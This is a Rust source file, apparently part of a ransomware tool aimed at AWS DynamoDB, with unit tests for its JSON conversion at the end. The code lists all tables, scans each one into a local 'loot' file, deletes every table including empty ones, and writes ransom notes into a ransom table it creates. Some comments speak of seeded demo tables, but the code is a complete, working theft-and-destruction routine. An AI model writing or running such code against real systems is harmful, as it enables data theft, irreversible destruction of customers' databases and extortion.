use std::collections::HashMap;
use std::time::{Duration, Instant};

use async_trait::async_trait;
use aws_sdk_dynamodb as ddb;
use aws_sdk_dynamodb::types::{
    AttributeDefinition, AttributeValue, BillingMode, KeySchemaElement, KeyType,
    ScalarAttributeType, TableStatus,
};
use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine as _;
use serde_json::{json, Value};
use tracing::{info, warn};

use super::{DestroyOutcome, DrainStore, ExfilRecord};
use crate::error::{classify, with_retry, AttackError, AttackResult};
use crate::loot::LootWriter;

/// Key suffix for the per-table record in the ransom table.
pub const RANSOM_KEY_SUFFIX: &str = "_RANSOM_NOTE";

/// Partition key attribute, matching the demo tables' own convention.
const KEY_ATTR: &str = "ID";

/// DynamoDB-backed drain target. Annotation goes into a single fixed-name
/// ransom table, created on demand.
pub struct TableStore {
    client: ddb::Client,
    ransom_table: String,
    poll_interval: Duration,
    poll_timeout: Duration,
}

impl TableStore {
    pub fn new(
        conf: &aws_config::SdkConfig,
        ransom_table: impl Into<String>,
        poll_interval: Duration,
        poll_timeout: Duration,
    ) -> Self {
        Self {
            client: ddb::Client::new(conf),
            ransom_table: ransom_table.into(),
            poll_interval,
            poll_timeout,
        }
    }

    // One page only, like the rest of the demo tooling. The seeded tables
    // fit well inside a single scan page.
    async fn scan_items(&self, table: &str) -> AttackResult<Vec<HashMap<String, AttributeValue>>> {
        let resp = with_retry("scan table", || {
            let req = self.client.scan().table_name(table);
            async move { req.send().await.map_err(|e| classify("scan table", e)) }
        })
        .await?;
        Ok(resp.items().to_vec())
    }

    async fn table_status(&self, table: &str) -> AttackResult<Option<TableStatus>> {
        match self.client.describe_table().table_name(table).send().await {
            Ok(out) => Ok(out.table().and_then(|t| t.table_status().cloned())),
            Err(e) => {
                let e = classify("describe table", e);
                if e.is_not_found() {
                    Ok(None)
                } else {
                    Err(e)
                }
            }
        }
    }

    async fn wait_until_absent(&self, table: &str) -> AttackResult<()> {
        let started = Instant::now();
        loop {
            if self.table_status(table).await?.is_none() {
                return Ok(());
            }
            if started.elapsed() >= self.poll_timeout {
                return Err(AttackError::TimedOut {
                    what: format!("deletion of table '{table}'"),
                    waited: started.elapsed(),
                });
            }
            tokio::time::sleep(self.poll_interval).await;
        }
    }

    async fn wait_until_active(&self, table: &str) -> AttackResult<()> {
        let started = Instant::now();
        loop {
            if let Some(status) = self.table_status(table).await? {
                if matches!(status, TableStatus::Active) {
                    return Ok(());
                }
            }
            if started.elapsed() >= self.poll_timeout {
                return Err(AttackError::TimedOut {
                    what: format!("table '{table}' becoming active"),
                    waited: started.elapsed(),
                });
            }
            tokio::time::sleep(self.poll_interval).await;
        }
    }

    async fn create_ransom_table(&self) -> AttackResult<()> {
        let build_err = |e: aws_smithy_types::error::operation::BuildError| AttackError::Api {
            action: "create ransom table",
            code: None,
            message: e.to_string(),
        };
        let attr = AttributeDefinition::builder()
            .attribute_name(KEY_ATTR)
            .attribute_type(ScalarAttributeType::S)
            .build()
            .map_err(build_err)?;
        let key = KeySchemaElement::builder()
            .attribute_name(KEY_ATTR)
            .key_type(KeyType::Hash)
            .build()
            .map_err(build_err)?;
        self.client
            .create_table()
            .table_name(&self.ransom_table)
            .attribute_definitions(attr)
            .key_schema(key)
            .billing_mode(BillingMode::PayPerRequest)
            .send()
            .await
            .map_err(|e| classify("create ransom table", e))?;
        self.wait_until_active(&self.ransom_table).await
    }
}

#[async_trait]
impl DrainStore for TableStore {
    fn kind(&self) -> &'static str {
        "dynamodb"
    }

    async fn list_resources(&self) -> AttackResult<Vec<String>> {
        let mut names = Vec::new();
        let mut start: Option<String> = None;
        loop {
            let resp = with_retry("list tables", || {
                let mut req = self.client.list_tables();
                if let Some(s) = &start {
                    req = req.exclusive_start_table_name(s);
                }
                async move { req.send().await.map_err(|e| classify("list tables", e)) }
            })
            .await?;
            names.extend(resp.table_names().iter().cloned());
            match resp.last_evaluated_table_name() {
                Some(s) => start = Some(s.to_string()),
                None => break,
            }
        }
        Ok(names)
    }

    async fn exfiltrate(&self, target: &str, loot: &mut LootWriter) -> AttackResult<ExfilRecord> {
        let items = self.scan_items(target).await?;
        let mut record = ExfilRecord::new(target);
        record.items = items.len();
        if items.is_empty() {
            return Ok(record);
        }
        let rows: Vec<Value> = items.iter().map(item_to_json).collect();
        let path = loot.write_json(&format!("{target}.json"), &rows)?;
        info!(table = target, items = record.items, "table scan persisted");
        record.artifacts.push(path);
        Ok(record)
    }

    async fn destroy(&self, target: &str, _record: &ExfilRecord) -> AttackResult<DestroyOutcome> {
        with_retry("delete table", || {
            let req = self.client.delete_table().table_name(target);
            async move { req.send().await.map_err(|e| classify("delete table", e)) }
        })
        .await?;
        self.wait_until_absent(target).await?;
        info!(table = target, "table deleted");
        Ok(DestroyOutcome { destroyed: 1, failed: 0 })
    }

    // Tables are dropped whole, so an empty scan still destroys the table.
    fn destroys_empty_targets(&self) -> bool {
        true
    }

    async fn prepare_annotation(&self) -> AttackResult<()> {
        match self.table_status(&self.ransom_table).await? {
            Some(TableStatus::Active) => Ok(()),
            Some(_) => self.wait_until_active(&self.ransom_table).await,
            None => {
                info!(table = %self.ransom_table, "creating ransom table");
                self.create_ransom_table().await
            }
        }
    }

    async fn annotate(&self, target: &str, message: &str) -> AttackResult<()> {
        let mut item = HashMap::new();
        item.insert(
            KEY_ATTR.to_string(),
            AttributeValue::S(format!("{target}{RANSOM_KEY_SUFFIX}")),
        );
        item.insert("SourceTable".to_string(), AttributeValue::S(target.to_string()));
        item.insert("Message".to_string(), AttributeValue::S(message.to_string()));
        with_retry("insert ransom note", || {
            let req = self
                .client
                .put_item()
                .table_name(&self.ransom_table)
                .set_item(Some(item.clone()));
            async move { req.send().await.map_err(|e| classify("insert ransom note", e)) }
        })
        .await?;
        info!(table = %self.ransom_table, source = target, "ransom record inserted");
        Ok(())
    }
}

/// Render one scanned item as plain JSON for the loot file.
pub fn item_to_json(item: &HashMap<String, AttributeValue>) -> Value {
    let mut obj = serde_json::Map::new();
    for (k, v) in item {
        obj.insert(k.clone(), attr_to_json(v));
    }
    Value::Object(obj)
}

fn attr_to_json(v: &AttributeValue) -> Value {
    match v {
        AttributeValue::S(s) => json!(s),
        AttributeValue::N(n) => number_to_json(n),
        AttributeValue::Bool(b) => json!(b),
        AttributeValue::Null(_) => Value::Null,
        AttributeValue::L(list) => Value::Array(list.iter().map(attr_to_json).collect()),
        AttributeValue::M(map) => {
            let mut obj = serde_json::Map::new();
            for (k, v) in map {
                obj.insert(k.clone(), attr_to_json(v));
            }
            Value::Object(obj)
        }
        AttributeValue::Ss(set) => json!(set),
        AttributeValue::Ns(set) => Value::Array(set.iter().map(|n| number_to_json(n)).collect()),
        AttributeValue::B(blob) => json!(BASE64.encode(blob.as_ref())),
        AttributeValue::Bs(blobs) => {
            Value::Array(blobs.iter().map(|b| json!(BASE64.encode(b.as_ref()))).collect())
        }
        other => {
            warn!(?other, "unmapped attribute type in scan, dumping as null");
            Value::Null
        }
    }
}

// DynamoDB numbers are decimal strings with up to 38 digits, more than
// i64 or f64 can hold. Keep a value numeric in the dump only when its
// text round-trips exactly, otherwise preserve the raw string.
fn number_to_json(n: &str) -> Value {
    if let Ok(i) = n.parse::<i64>() {
        if i.to_string() == n {
            return json!(i);
        }
    }
    if let Ok(f) = n.parse::<f64>() {
        if let Some(num) = serde_json::Number::from_f64(f) {
            if num.to_string() == n {
                return Value::Number(num);
            }
        }
    }
    json!(n)
}

#[cfg(test)]
mod tests {
    use super::*;
    use aws_smithy_types::Blob;

    #[test]
    fn scalar_attributes_map_to_json() {
        assert_eq!(attr_to_json(&AttributeValue::S("hi".into())), json!("hi"));
        assert_eq!(attr_to_json(&AttributeValue::N("42".into())), json!(42));
        assert_eq!(attr_to_json(&AttributeValue::N("1.5".into())), json!(1.5));
        assert_eq!(attr_to_json(&AttributeValue::Bool(true)), json!(true));
        assert_eq!(attr_to_json(&AttributeValue::Null(true)), Value::Null);
    }

    #[test]
    fn nested_attributes_map_recursively() {
        let inner = HashMap::from([("count".to_string(), AttributeValue::N("3".into()))]);
        let v = AttributeValue::L(vec![
            AttributeValue::S("a".into()),
            AttributeValue::M(inner),
        ]);
        assert_eq!(attr_to_json(&v), json!(["a", {"count": 3}]));
    }

    #[test]
    fn sets_and_blobs_stay_readable() {
        let ss = AttributeValue::Ss(vec!["x".into(), "y".into()]);
        assert_eq!(attr_to_json(&ss), json!(["x", "y"]));
        let ns = AttributeValue::Ns(vec!["1".into(), "2".into()]);
        assert_eq!(attr_to_json(&ns), json!([1, 2]));
        let b = AttributeValue::B(Blob::new(b"\x00\x01".to_vec()));
        assert_eq!(attr_to_json(&b), json!("AAE="));
    }

    #[test]
    fn item_renders_as_object() {
        let item = HashMap::from([
            ("ID".to_string(), AttributeValue::S("1001".into())),
            ("CustomerName".to_string(), AttributeValue::S("A. Customer".into())),
        ]);
        let v = item_to_json(&item);
        assert_eq!(v["ID"], json!("1001"));
        assert_eq!(v["CustomerName"], json!("A. Customer"));
    }

    #[test]
    fn huge_numbers_fall_back_to_strings() {
        // 20 digits, past i64; a float dump would mangle the tail
        assert_eq!(
            number_to_json("12345678901234567890"),
            json!("12345678901234567890")
        );
        // 39 digits, beyond both i64 and exact f64
        let n = "123456789012345678901234567890123456789";
        assert_eq!(attr_to_json(&AttributeValue::N(n.into())), json!(n));
        assert_eq!(number_to_json("not-a-number"), json!("not-a-number"));
    }
}
